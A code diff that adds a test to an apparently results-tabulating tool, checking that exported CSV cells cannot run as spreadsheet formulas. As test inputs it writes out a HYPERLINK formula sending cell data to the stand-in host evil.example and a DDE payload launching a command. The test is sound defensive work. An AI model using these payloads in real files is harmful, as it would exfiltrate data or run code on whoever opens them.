@@ -138,6 +138,22 @@ def test_no_two_columns_of_a_csv_have_one_name(tmp_path: Path) -> None:
     assert "runs (key)" in header
 
 
+def test_a_spreadsheet_executes_no_cell_of_a_csv(tmp_path: Path) -> None:
+    """A stranger's run could name a data set so that opening the table sent figures away."""
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"]
+    names = [*formulas, "-0.5", "+1e3", "-inf", "fashion"]
+    runs = [made(tmp_path, [0.5], "=kind", **{"=key": name}) for name in names]
+    header, *lines = csv.reader(io.StringIO(as_csv(tabulate(compare(runs)))))
+    assert "'=key" in header
+    shown = {line[header.index("'=key")] for line in lines}
+    assert {'\'=HYPERLINK("http://evil.example/?"&A1)', "-0.5", "+1e3", "-inf"} <= shown
+    assert {line[header.index("accuracy_kind")] for line in lines} == {"'=kind"}
+    for line in (header, *lines):
+        for cell in line:
+            assert not cell.startswith(tuple("=@\t\r")), cell
+            assert not cell.startswith(("+", "-")) or float(cell)
+
+
 def test_latex_has_no_character_with_a_meaning_of_its_own(tmp_path: Path) -> None:
     runs = [made(tmp_path, [0.5], dataset=name) for name in ("a_b & 50%", "~{$#^\\}")]
     latex = as_latex(tabulate(compare(runs)))
